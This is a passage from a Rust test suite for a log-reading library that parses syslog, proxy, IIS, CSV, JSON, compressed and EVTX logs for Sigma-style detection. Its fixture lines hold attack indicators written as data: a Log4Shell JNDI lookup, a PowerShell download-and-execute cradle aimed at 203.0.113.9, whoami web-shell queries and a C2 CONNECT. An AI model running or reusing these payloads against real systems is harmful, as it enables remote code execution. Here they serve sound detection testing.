            .find(|s| s.path.ends_with(name))
            .cloned()
            .unwrap()
    };
    let r = by_name("README.md");
    assert!(r.skipped_not_log);
    assert_eq!(r.error, None);
    assert_eq!(r.events, 0);
    let log = by_name("access.log");
    assert!(!log.skipped_not_log && log.error.is_none() && log.events == 1);

    // Named explicitly (also beside the folder): an error.
    let (files, _) = discover(&[readme.clone(), d.to_path_buf()], &opts);
    let f = files.iter().find(|f| f.path == readme).unwrap();
    assert!(f.explicit);
    let st = read_path(&readme, &opts, |_| {});
    assert!(!st[0].skipped_not_log);
    assert!(st[0]
        .error
        .as_deref()
        .unwrap_or("")
        .contains("not recognised"));
    let (_, stats) = read_all(&files, &opts, || 0u64, |n, _| *n += 1);
    let r = stats
        .iter()
        .find(|s| s.path.ends_with("README.md"))
        .unwrap();
    assert!(r.error.is_some() && !r.skipped_not_log);
}

/// Issue 14: RFC 3164 years. Without help the file's time decides, December lines in a file
/// modified in January being the year before; the span of the run's other evidence
/// (`syslog_year_hint`) beats a copied file's time; `syslog_year` beats both.
#[test]
fn syslog_years_from_mtime_hint_or_fixed() {
    use chrono::{Datelike, TimeZone, Utc};
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "auth.log",
        b"Dec 30 23:00:00 web01 sshd[1]: Accepted password for bob from 10.0.0.9 port 22 ssh2\n\
Dec 31 23:59:00 web01 sshd[2]: Accepted password for bob from 10.0.0.9 port 22 ssh2\n\
Jan  1 00:01:00 web01 sshd[3]: Accepted password for bob from 10.0.0.9 port 22 ssh2\n\
Jan  2 08:00:00 web01 cron[4]: (root) CMD (true)\n",
    );
    let set_mtime = |t: chrono::DateTime<Utc>| {
        let f = std::fs::File::options().append(true).open(&p).unwrap();
        f.set_modified(std::time::SystemTime::from(t)).unwrap();
    };
    let years = |opts: &ReadOptions| {
        let mut out = Vec::new();
        let st = read_path(&p, opts, |e| out.push(e.timestamp.unwrap().year()));
        assert_eq!((st[0].events, st[0].unparsed), (4, 0), "{st:?}");
        out
    };
    let hint = ReadOptions {
        syslog_year_hint: spoor_input::EvidenceSpan::of([
            Utc.with_ymd_and_hms(2020, 12, 29, 10, 0, 0).unwrap(),
            Utc.with_ymd_and_hms(2020, 12, 31, 18, 0, 0).unwrap(),
        ]),
        ..ReadOptions::default()
    };
    let fixed = ReadOptions {
        syslog_year: Some(2019),
        ..hint.clone()
    };

    set_mtime(Utc.with_ymd_and_hms(2025, 1, 5, 0, 0, 0).unwrap());
    assert_eq!(years(&ReadOptions::default()), vec![2024, 2024, 2025, 2025]);
    // A fresh copy: the file's time says nothing; the other evidence does.
    set_mtime(Utc.with_ymd_and_hms(2026, 12, 1, 0, 0, 0).unwrap());
    assert_ne!(years(&ReadOptions::default()), vec![2020, 2020, 2021, 2021]);
    assert_eq!(years(&hint), vec![2020, 2020, 2021, 2021]);
    assert_eq!(years(&fixed), vec![2019; 4]);

    // The caller can tell syslog files from the rest before reading them.
    let f = spoor_input::InputFile::new(&p);
    assert_eq!(
        spoor_input::sniff_file(&f, &ReadOptions::default()),
        Some(InputFormat::Syslog)
    );
    let readme = write(dir.path(), "notes.txt", b"just some words here\nand more\n");
    let r = spoor_input::InputFile::new(&readme);
    assert_eq!(spoor_input::sniff_file(&r, &ReadOptions::default()), None);
}

/// Issue 14: Squid's access.log (native and combined) is sniffed and read as Sigma `proxy`
/// events, every line accounted for.
#[test]
fn squid_access_log_is_a_proxy_log() {
    let dir = tempfile::tempdir().unwrap();
    let native = write(
        dir.path(),
        "access.log",
        b"1720432800.123    512 10.1.2.3 TCP_MISS/200 4711 GET http://dl.example.net/tools/a.exe - HIER_DIRECT/203.0.113.7 application/octet-stream\n\
1720432801.000      0 10.1.2.3 TCP_DENIED/403 3900 CONNECT c2.example.org:443 - HIER_NONE/- text/html\n\
\n\
not a proxy line\n",
    );
    let mut evs = Vec::new();
    let st = read_path(&native, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!(st[0].format, "squid");
    assert_eq!(
        (st[0].events, st[0].unparsed, st[0].skipped),
        (2, 1, 1),
        "{st:?}"
    );
    assert_eq!(st[0].unparsed_samples[0].line, 4);
    assert!(evs
        .iter()
        .all(|e| e.logsource.category.as_deref() == Some("proxy")));
    assert_eq!(text(&evs[0], "c-uri-extension").as_deref(), Some("exe"));
    assert_eq!(text(&evs[1], "cs-host").as_deref(), Some("c2.example.org"));
    assert_eq!(evs[1].origin.position, Position::Line(2));
    assert!(evs[0].raw.is_some());

    let combined = write(
        dir.path(),
        "squid-combined.log",
        b"10.1.2.3 - - [08/Jul/2024:12:00:00 +0200] \"GET http://upd.example.com/p.ps1 HTTP/1.1\" 200 1234 \"-\" \"Mozilla/5.0\" TCP_MISS:HIER_DIRECT\n",
    );
    let mut evs = Vec::new();
    let st = read_path(&combined, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!((st[0].format.as_str(), st[0].events), ("squid", 1));
    assert_eq!(text(&evs[0], "c-useragent").as_deref(), Some("Mozilla/5.0"));
    assert_eq!(evs[0].logsource.category.as_deref(), Some("proxy"));
}

/// Issue 14: a proxy's W3C extended log (Blue Coat style) is sniffed as `w3c-proxy` and read as
/// Sigma `proxy` events; directives are skipped, a short record is counted.
#[test]
fn w3c_proxy_log_is_a_proxy_log() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "proxysg_main.log",
        b"#Software: SGOS 6.7.5.3\n#Version: 1.0\n#Date: 2024-07-08 10:00:00\n\
#Fields: date time c-ip cs-username s-action sc-status cs-method cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs(User-Agent)\n\
2024-07-08 10:00:00 10.1.2.3 - TCP_NC_MISS 200 GET https upd.example.com 443 /a/b.ps1 - \"WindowsPowerShell/5.1\"\n\
2024-07-08 10:00:01 10.1.2.3 -\n",
    );
    let mut evs = Vec::new();
    let st = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!(st[0].format, "w3c-proxy");
    assert_eq!(
        (st[0].events, st[0].unparsed, st[0].skipped),
        (1, 1, 4),
        "{st:?}"
    );
    let e = &evs[0];
    assert_eq!(e.logsource.category.as_deref(), Some("proxy"));
    assert_eq!(
        text(e, "c-uri").as_deref(),
        Some("https://upd.example.com/a/b.ps1")
    );
    assert_eq!(
        text(e, "c-useragent").as_deref(),
        Some("WindowsPowerShell/5.1")
    );
    assert_eq!(e.origin.position, Position::Line(5));
}

// Issue 17: hostile and awkward input.

/// `n` access-log lines, request `/p{i}` on the i-th (from 0).
fn access_lines(n: usize, end: &str) -> String {
    (0..n)
        .map(|i| {
            format!(
                "10.0.{}.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"{end}",
                i / 250 % 250,
                i % 250
            )
        })
        .collect()
}

#[test]
fn issue17_long_first_line_or_nul_padding_does_not_hide_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let body = access_lines(20_000, "\n");
    let mut long = vec![b'A'; 70 * 1024];
    long.push(b'\n');
    let mut nuls = vec![0u8; 70_000];
    nuls.push(b'\n');
    // copytruncate style: the NULs run straight into the first record.
    let glued = vec![0u8; 70_000];
    let mut huge = vec![b'B'; 3 << 20];
    huge.push(b'\n');
    for (name, junk) in [
        ("long.log", &long),
        ("nuls.log", &nuls),
        ("glued.log", &glued),
        ("huge.log", &huge),
    ] {
        let mut bytes = junk.clone();
        bytes.extend_from_slice(body.as_bytes());
        let p = write(dir.path(), name, &bytes);
        let mut lines = Vec::new();
        let mut first = Vec::new();
        let stats = read_path(&p, &ReadOptions::default(), |e| {
            lines.push(e.origin.position.number());
            if first.is_empty() {
                first.push(e);
            }
        });
        let s = &stats[0];
        assert_eq!(s.format, "access", "{name}: {s:?}");
        assert!(s.error.is_none(), "{name}: {s:?}");
        if name == "glued.log" {
            // The padding is dropped and the record it ran into is read.
            assert_eq!((s.events, s.unparsed), (20_000, 0), "{s:?}");
            assert_eq!(lines.first(), Some(&1));
            assert_eq!(text(&first[0], "c-ip").as_deref(), Some("10.0.0.0"));
            continue;
        }
        // The junk line is unparsed, with its reason; every record after it is an event.
        assert_eq!(s.unparsed, 1, "{name}: {s:?}");
        assert_eq!(s.unparsed_samples[0].line, 1, "{name}");
        assert_eq!(s.events, 20_000, "{name}");
        assert_eq!(lines.first(), Some(&2), "{name}");
        assert_eq!(lines.last(), Some(&20_001), "{name}");
        if name == "nuls.log" {
            assert!(s.unparsed_samples[0].reason.contains("NUL"), "{s:?}");
        }
        if name == "huge.log" {
            assert!(
                s.unparsed_samples[0].reason.contains("over the cap"),
                "{s:?}"
            );
        }
    }
}

#[test]
fn issue17_lone_cr_line_ends_are_line_ends() {
    let dir = tempfile::tempdir().unwrap();
    let records = [
        "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"ua\"",
        "10.0.0.2 - - [01/Jan/2024:00:00:01 +0000] \"GET /b HTTP/1.1\" 200 5 \"-\" \"ua\"",
        "10.0.0.3 - - [01/Jan/2024:00:00:02 +0000] \"GET /c HTTP/1.1\" 200 5 \"-\" \"ua\"",
        "10.0.0.4 - - [01/Jan/2024:00:00:03 +0000] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"ua\"",
    ];
    let p = write(dir.path(), "cr.log", (records.join("\r") + "\r").as_bytes());
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!(stats[0].format, "access");
    assert_eq!((stats[0].events, stats[0].unparsed), (4, 0), "{stats:?}");
    assert_eq!(evs[3].origin.position, Position::Line(4));
    assert!(text(&evs[3], "cs-uri-query").is_some_and(|q| q.contains("${jndi:ldap")));
    assert_eq!(evs[3].raw.as_deref(), Some(records[3]));

    // Mixed ends in a file large enough to be chunked: line numbers stay exact across chunks.
    let ends = ["\r", "\n", "\r\n"];
    let mut body = String::new();
    for i in 0..30_000 {
        body.push_str(&format!(
            "10.0.0.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"",
            i % 250
        ));
        body.push_str(ends[i * 7 % 3]);
        if i % 1013 == 0 {
            body.push_str("\r\n"); // a blank line between records
        }
    }
    let p = write(dir.path(), "mixed.log", body.as_bytes());
    let files = vec![spoor_input::InputFile::new(&p)];
    let mut seen = Vec::new();
    for split_bytes in [u64::MAX, 100_000, 77_777] {
        let opts = ReadOptions {
            split_bytes,
            ..ReadOptions::default()
        };
        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
            v.push((
                e.origin.position.number(),
                text(&e, "cs-uri-stem").unwrap_or_default(),
            ))
        });
        if split_bytes != u64::MAX {
            assert!(states.len() >= 10, "{} chunks", states.len());
        }
        let s = &stats[0];
        assert_eq!((s.events, s.unparsed), (30_000, 0), "{s:?}");
        assert_eq!(s.skipped, 30, "{s:?}");
        let mut got: Vec<(u64, String)> = states.into_iter().flatten().collect();
        got.sort();
        // Record i is on line i + 1 + (blank lines before it).
        for (i, (line, stem)) in got.iter().enumerate() {
            assert_eq!(stem, &format!("/p{i}"));
            assert_eq!(*line, i as u64 + 1 + (i as u64).div_ceil(1013), "{stem}");
        }
        seen.push(got);
    }
    assert!(seen.windows(2).all(|w| w[0] == w[1]));
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut v = if big_endian {
        vec![0xfe, 0xff]
    } else {
        vec![0xff, 0xfe]
    };
    for u in text.encode_utf16() {
        v.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    v
}

#[test]
fn issue17_utf16_logs_are_decoded() {
    let dir = tempfile::tempdir().unwrap();
    // An IIS log as PowerShell re-saves it: UTF-16LE with a byte order mark, CRLF.
    let mut iis = String::from(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n\
         #Date: 2024-03-01 00:00:00\r\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n",
    );
    for i in 0..300 {
        iis.push_str(&format!(
            "2024-03-01 00:00:{:02} 10.0.0.5 GET /owa/caf\u{e9}{i}.aspx cmd=whoami 443 - 198.51.100.{} Mozilla/5.0 200 0 0 15\r\n",
            i % 60,
            i % 250
        ));
    }
    let p = write(dir.path(), "u_ex240301.log", &utf16(&iis, false));
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    let s = &stats[0];
    assert_eq!(s.format, "utf16le+iis", "{s:?}");
    assert_eq!((s.events, s.unparsed, s.skipped), (300, 0, 4), "{s:?}");
    assert_eq!(
        text(&evs[7], "cs-uri").as_deref(),
        Some("/owa/caf\u{e9}7.aspx?cmd=whoami")
    );
    assert_eq!(text(&evs[7], "c-ip").as_deref(), Some("198.51.100.7"));
    assert_eq!(evs[7].origin.position, Position::Line(12));

    // A CSV of Windows events, UTF-16BE, gzip-compressed.
    let csv = "EventID,Channel,CommandLine\r\n4688,Security,whoami /all \u{1f600}\r\n4688,Security,net user\r\n";
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&utf16(csv, true)).unwrap();
    let p = write(dir.path(), "export.csv.gz", &gz.finish().unwrap());
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!(stats[0].format, "gzip+utf16be+csv", "{stats:?}");
    assert_eq!(stats[0].events, 2);
    assert_eq!(
        text(&evs[0], "CommandLine").as_deref(),
        Some("whoami /all \u{1f600}")
    );

    // A large UTF-16 access log (forced format too) is read whole, never split into chunks of
    // bytes that are not chunks of the text.
    let body = access_lines(20_000, "\r\n");
    let p = write(dir.path(), "access16.log", &utf16(&body, false));
    let files = vec![spoor_input::InputFile::new(&p)];
    for format in [None, Some(InputFormat::WebAccess)] {
        let opts = ReadOptions {
            format,
            split_bytes: 256 * 1024,
            ..ReadOptions::default()
        };
        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
            v.push((
                e.origin.position.number(),
                text(&e, "cs-uri-stem").unwrap_or_default(),
            ))
        });
        assert_eq!(states.len(), 1);
        assert_eq!(
            (stats[0].events, stats[0].unparsed),
            (20_000, 0),
            "{stats:?}"
        );
        assert!(stats[0].format.starts_with("utf16le+"), "{stats:?}");
        let got: Vec<(u64, String)> = states.into_iter().flatten().collect();
        assert!(got
            .iter()
            .enumerate()
            .all(|(i, (line, stem))| *line == i as u64 + 1 && stem == &format!("/p{i}")));
    }
}

#[test]
fn issue17_truncated_zstd_keeps_what_decodes_and_says_it_is_damaged() {
    use ruzstd::encoding::{compress_to_vec, CompressionLevel};
    let dir = tempfile::tempdir().unwrap();
    let body = access_lines(30_000, "\n");
    let z = compress_to_vec(body.as_bytes(), CompressionLevel::Fastest);
    let whole = write(dir.path(), "whole.log.zst", &z);
    let stats = read_path(&whole, &ReadOptions::default(), |_| {});
    assert_eq!(stats[0].format, "zstd+access");
    assert_eq!((stats[0].events, stats[0].unparsed), (30_000, 0));
    assert!(stats[0].error.is_none(), "{stats:?}");
    for frac in [0.3, 0.5, 0.8] {
        let cut = (z.len() as f64 * frac) as usize;
        let p = write(dir.path(), "cut.log.zst", &z[..cut]);
        let mut stems = Vec::new();
        let stats = read_path(&p, &ReadOptions::default(), |e| {
            stems.push(text(&e, "cs-uri-stem").unwrap_or_default())
        });
        let s = &stats[0];
        println!(
            "zstd cut at {frac}: {} of 30000 lines read, {s:?}",
            s.events
        );
        assert_eq!(s.format, "zstd+access");
        // Most of what the cut kept is read, in order, as it was.
        assert!(s.events as f64 > 30_000.0 * (frac - 0.15), "{frac}: {s:?}");
        assert!(stems
            .iter()
            .enumerate()
            .all(|(i, st)| st == &format!("/p{i}")));
        // The damage is the file's error (the run exits 3).
        assert!(
            s.error.as_deref().unwrap_or("").contains("damaged"),
            "{s:?}"
        );
        // The line cut in two is counted, not dropped.
        assert!(s.unparsed <= 1, "{s:?}");
    }
}

#[cfg(unix)]
#[test]
fn issue17_pipes_fifos_and_stdin_are_read_as_streams() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("live.pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    write(dir.path(), "plain.log", ACCESS.as_bytes());
    // Found by walking a folder, a FIFO is passed over (reading it could block for ever).
    let (files, problems) = discover(&[dir.path().to_path_buf()], &ReadOptions::default());
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(files.len(), 1, "{files:?}");
    // Named explicitly it is read, as a stream; the writer trickles its first bytes.
    let body = access_lines(5000, "\n");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(body.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    for data in [body.as_bytes().to_vec(), gz] {
        let writer = {
            let fifo = fifo.clone();
            std::thread::spawn(move || {
                let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
                for b in &data[..40] {
                    w.write_all(&[*b]).unwrap();
                    w.flush().unwrap();
                    std::thread::sleep(std::time::Duration::from_millis(1));
                }
                w.write_all(&data[40..]).unwrap();
            })
        };
        let (files, problems) = discover(std::slice::from_ref(&fifo), &ReadOptions::default());
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(files.len(), 1);
        let opts = ReadOptions {
            split_bytes: 1024,
            ..ReadOptions::default()
        };
        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<u64>, e| {
            v.push(e.origin.position.number())
        });
        writer.join().unwrap();
        let s = &stats[0];
        assert!(s.format.ends_with("access"), "{s:?}");
        assert_eq!((s.events, s.unparsed), (5000, 0), "{s:?}");
        assert!(s.error.is_none(), "{s:?}");
        let lines: Vec<u64> = states.into_iter().flatten().collect();
        assert_eq!(lines, (1..=5000).collect::<Vec<_>>());
    }
    // `-` and /dev/stdin with a piped standard input are checked through the binary
    // (spoor-cli's tests/pipeline.rs), which is where standard input belongs.
}

#[test]
fn issue17_json_lone_surrogate_becomes_replacement_character() {
    let dir = tempfile::tempdir().unwrap();
    let lines = [
        r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"iex \ud800(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}"#,
        r#"{"a":"\udc00x"}"#,
        r#"{"b":"\\ud800"}"#,
        r#"{"c":"\ud83d\ude00"}"#,
        r#"{"d":"\ud800\u0041"}"#,
        r#"{"e":"\ud800 not closed"#,
    ];
    let p = write(
        dir.path(),
        "events.json",
        (lines.join("\n") + "\n").as_bytes(),
    );
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    let s = &stats[0];
    assert_eq!(s.format, "json");
    assert_eq!((s.events, s.unparsed), (5, 1), "{s:?}");
    assert_eq!(s.unparsed_samples[0].line, 6);
    assert_eq!(evs[0].logsource.category.as_deref(), Some("ps_script"));
    assert_eq!(evs[0].origin.position, Position::Line(1));
    assert_eq!(
        text(&evs[0], "ScriptBlockText").as_deref(),
        Some("iex \u{fffd}(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
    );
    assert_eq!(text(&evs[1], "a").as_deref(), Some("\u{fffd}x"));
    assert_eq!(text(&evs[2], "b").as_deref(), Some("\\ud800"));
    assert_eq!(text(&evs[3], "c").as_deref(), Some("\u{1f600}"));
    assert_eq!(text(&evs[4], "d").as_deref(), Some("\u{fffd}A"));
    // In a JSON array too.
    let p = write(dir.path(), "array.json", br#"[{"u":"\udfff"},{"v":1}]"#);
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!((stats[0].events, stats[0].unparsed), (2, 0), "{stats:?}");
    assert_eq!(text(&evs[0], "u").as_deref(), Some("\u{fffd}"));
}

#[test]
fn issue17_damaged_evtx_chunk_counts_the_records_it_loses() {
    let Some(c) = corpora("issue17_damaged_evtx_chunk_counts_the_records_it_loses") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    const CHUNK: usize = 4096 + 65536; // offset of chunk 1
    let src = c.join("evtx-attack-samples/Credential Access/etw_rpc_zerologon.evtx");
    let bytes = std::fs::read(&src).unwrap();
    let whole = read_path(&src, &ReadOptions::default(), |_| {});
    assert_eq!(whole[0].unparsed, 0, "{whole:?}");
    // The chunk's header magic broken, its record range intact: the range is the count.
    let mut magic = bytes.clone();
    magic[CHUNK..CHUNK + 8].copy_from_slice(b"XXXXXXXX");
    let p = write(dir.path(), "magic.evtx", &magic);
    let stats = read_path(&p, &ReadOptions::default(), |_| {});
    let s = &stats[0];
    println!("broken chunk magic: {s:?}");
    let lost = whole[0].events - s.events;
    assert!(lost > 100, "{s:?}");
    assert_eq!(s.unparsed, lost, "{s:?}");
    assert!(s.unparsed_samples[0].reason.contains("chunk 1"), "{s:?}");
    // Magic and range both damaged: counted as one, and the file's error says more were lost.
    let mut smashed = bytes.clone();
    for (k, b) in smashed[CHUNK..CHUNK + 48].iter_mut().enumerate() {
        *b = 0xff - k as u8;
    }
    let p = write(dir.path(), "smashed.evtx", &smashed);
    let stats = read_path(&p, &ReadOptions::default(), |_| {});
    let s = &stats[0];
    println!("smashed chunk header: {s:?}");
    assert!(s.events < whole[0].events);
    assert!(s.unparsed >= 1, "{s:?}");
    assert!(
        s.error
            .as_deref()
            .unwrap_or("")
            .contains("could not be counted"),
        "{s:?}"
    );
    // Every multi-chunk sample, its second chunk's magic broken: never less damage than there is.
    let (files, _) = discover(
        &[c.join("evtx-attack-samples")],
        &ReadOptions {
            globs: vec!["*.evtx".into()],
            ..ReadOptions::default()
        },
    );
    let mut checked = 0;
    for f in files.iter().filter(|f| f.size > (CHUNK + 65536) as u64) {
        let mut b = std::fs::read(&f.path).unwrap();
        if &b[CHUNK..CHUNK + 8] != b"ElfChnk\0" {
            continue;
        }
        b[CHUNK..CHUNK + 8].copy_from_slice(b"XXXXXXXX");
        let p = write(dir.path(), "each.evtx", &b);
        let before = read_path(&f.path, &ReadOptions::default(), |_| {});
        let after = read_path(&p, &ReadOptions::default(), |_| {});
        let (b0, a0) = (&before[0], &after[0]);
        let lost = b0.events - a0.events;
        assert!(
            a0.unparsed >= lost + b0.unparsed || a0.error.is_some(),
            "{}: {lost} lost, {a0:?}",
            f.display
        );
        checked += 1;
    }
    println!("{checked} EVTX files with a broken chunk magic account for every lost record");
    assert!(checked >= 10, "{checked}");
}

/// `read_units` ends each unit on the thread that read it: however many files, no more states
/// are alive at once than there are threads (an ingest's partial insert batches stay few).
#[test]
fn read_units_ends_each_unit_before_the_next_begins_on_its_thread() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let dir = tempfile::tempdir().unwrap();
    for i in 0..40 {
        write(
            dir.path(),
            &format!("access{i:02}.log"),
            format!("10.0.0.{i} - - [10/Oct/2024:13:55:36 +0000] \"GET /{i} HTTP/1.1\" 200 5\n")
                .as_bytes(),
        );
    }
    let opts = ReadOptions::default();
    let (files, problems) = discover(&[dir.path().to_path_buf()], &opts);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(files.len(), 40);
    let live = AtomicUsize::new(0);
    let most = AtomicUsize::new(0);
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(2)
        .build()
        .unwrap();
    let (ended, stats) = pool.install(|| {
        spoor_input::read_units(
            &files,
            &opts,
            || {
                let now = live.fetch_add(1, Ordering::SeqCst) + 1;
                most.fetch_max(now, Ordering::SeqCst);
                0u64
            },
            |n, _| *n += 1,
            |n| {
                live.fetch_sub(1, Ordering::SeqCst);
                n
            },
        )
    });
    assert_eq!(ended.len(), 40);
    assert_eq!(ended.iter().sum::<u64>(), 40);
    assert_eq!(stats.iter().map(|s| s.events).sum::<u64>(), 40);
    assert_eq!(live.load(Ordering::SeqCst), 0);
    let most = most.load(Ordering::SeqCst);
    assert!(
        (1..=2).contains(&most),
        "{most} states alive at once with 2 threads"
    );
}

/// Reads `files` with `opts` and gives the events in order (chunks are read in parallel but come
/// back in file order) with the file statistics and the number of work units.
fn read_with(
    files: &[spoor_input::InputFile],
    opts: &ReadOptions,
) -> (Vec<Event>, Vec<FileStats>, usize) {
    let (states, stats) = read_all(files, opts, Vec::new, |v: &mut Vec<Event>, e| v.push(e));
    let units = states.len();
    (states.into_iter().flatten().collect(), stats, units)
}

/// [`read_with`] the default options but `split_bytes`.
fn read_split(
    files: &[spoor_input::InputFile],
    split_bytes: u64,
) -> (Vec<Event>, Vec<FileStats>, usize) {
    read_with(
        files,
        &ReadOptions {
            split_bytes,
            ..ReadOptions::default()
        },
    )
}

/// A large CSV or TSV file is read in chunks too: each starts at a record (never inside a quoted
/// cell that holds a line break) and has the header of the file, so every event, line number,
/// count and sample is what one reader of the whole file gives.
#[test]
fn large_delimited_files_are_chunked_at_record_starts() {
    let dir = tempfile::tempdir().unwrap();
    for (name, sep) in [("big.csv", ','), ("big.tsv", '\t')] {
        let mut body = format!("time{sep}user{sep}cmd{sep}note\r\n");
        for i in 0..40_000u32 {
            let note = match i % 7 {
                // Quoted line breaks (both kinds) and doubled quotes.
                0 => format!("\"two\nlines {i}\""),
                1 => format!("\"three\r\nlines\r\n\"\"{i}\"\"\""),
                2 => format!("\"a{sep} b {i}\""),
                _ => format!("n{i}"),
            };
            body.push_str(&format!(
                "2024-07-12T10:00:{:02}Z{sep}u{}{sep}cmd /c {i}{sep}{note}",
                i % 60,
                i % 13
            ));
            body.push_str(if i % 3 == 0 { "\r\n" } else { "\n" });
            if i % 1001 == 0 {
                body.push_str(&format!("short{sep}row\n")); // wrong number of values
            }
            if i % 997 == 0 {
                body.push('\n'); // blank line between records
            }
        }
        let p = write(dir.path(), name, body.as_bytes());
        let files = vec![spoor_input::InputFile::new(&p)];
        let (whole, st_whole, units) = read_split(&files, u64::MAX);
        assert_eq!(units, 1);
        assert_eq!(st_whole[0].events, 40_000, "{:?}", st_whole[0]);
        assert_eq!(st_whole[0].unparsed, 40, "{:?}", st_whole[0]);
        for split_bytes in [150_000, 99_999, 65_537] {
            let (got, st, units) = read_split(&files, split_bytes);
            assert!(units >= 10, "{name}: {units} units at {split_bytes}");
            assert_eq!(got, whole, "{name} at {split_bytes}");
            assert_eq!(st, st_whole, "{name} at {split_bytes}");
        }
        // Record i starts on the line after those of the records, bad rows and blanks before it.
        let e = &whole[7];
        assert_eq!(text(e, "note").as_deref(), Some("two\nlines 7"));
        assert_eq!(text(e, "user").as_deref(), Some("u7"));
    }
}

/// A quoted cell that runs over chunk boundaries moves the next chunk to the record after it;
/// a record carried over a boundary past the size cap ends the split there (the reader of the
/// whole file drops it at the cap, which a chunk cannot see). The findings are the whole file's.
#[test]
fn quoted_cells_across_chunk_boundaries_move_them() {
    let dir = tempfile::tempdir().unwrap();
    let mut body = String::from("user,cmd\n");
    let mut i = 0u32;
    while body.len() < 400_000 {
        body.push_str(&format!("u{i},whoami {i}\n"));
        i += 1;
    }
    // One record of 200 KB of quoted lines, then more plain records.
    body.push_str("eve,\"");
    for k in 0..20_000 {
        body.push_str(&format!("l{k:05}\n"));
    }
    body.push_str("\"\n");
    while body.len() < 900_000 {
        body.push_str(&format!("u{i},whoami {i}\n"));
        i += 1;
    }
    // A lone quote opening a cell at the end: the file ends inside it.
    body.push_str("mallory,\"never closed\n");
    let p = write(dir.path(), "quoted.csv", body.as_bytes());
    let files = vec![spoor_input::InputFile::new(&p)];
    // With the small cap the reader drops the long record at 100 KB and reads the rest of its
    // lines as records of their own; only the whole-file equality is asserted then.
    for (cap, min_units, events) in [(1 << 20, 8, Some(u64::from(i) + 1)), (100_000, 2, None)] {
        let read = |split_bytes| {
            let opts = ReadOptions {
                split_bytes,
                max_line_bytes: cap,
                ..ReadOptions::default()
            };
            read_with(&files, &opts)
        };
        let (whole, st_whole, _) = read(u64::MAX);
        let (got, st, units) = read(100_000);
        assert!(units >= min_units, "{units} units with cap {cap}");
        assert!(
            units < 9,
            "{units} units with cap {cap}: a chunk starts inside the quoted cell"
        );
        assert_eq!(got, whole, "cap {cap}");
        assert_eq!(st, st_whole, "cap {cap}");
        if let Some(n) = events {
            assert_eq!(st[0].events, n, "cap {cap}");
            let long = whole
                .iter()
                .any(|e| text(e, "cmd").is_some_and(|c| c.len() > 100_000));
            assert!(long, "the 200 KB cell is one value");
        } else {
            assert!(
                st[0]
                    .unparsed_samples
                    .iter()
                    .any(|u| u.reason.contains("size cap")),
                "{:?}",
                st[0]
            );
        }
    }
}

/// Random delimited files of hostile pieces (quotes alone and doubled, every line end, blank
/// lines, lines over the cap, quoted cells over the size cap) read the same split and whole.
#[test]
fn random_delimited_files_read_the_same_split_and_whole() {
    let dir = tempfile::tempdir().unwrap();
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move |n: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % n
    };
    let pieces: [&[u8]; 12] = [
        b"abc",
        b",",
        b"\"",
        b"\"\"",
        b"\n",
        b"\r\n",
        b"\r",
        b"\n\n",
        b" ",
        b"x,y",
        b"\t",
        b"\"q\nq\"",
    ];
    let mut split_rounds = 0;
    for round in 0..24 {
        let mut body = b"h1,h2,h3\th4\n".to_vec();
        while body.len() < 300_000 {
            match next(40) {
                0 => body.extend(std::iter::repeat_n(b'z', 3_000)), // over the small cap
                1 => {
                    // A long quoted cell of many lines.
                    body.push(b'"');
                    for _ in 0..next(400) {
                        body.extend_from_slice(b"line\n");
                    }
                    body.push(b'"');
                }
                _ => body.extend_from_slice(pieces[next(pieces.len() as u64) as usize]),
            }
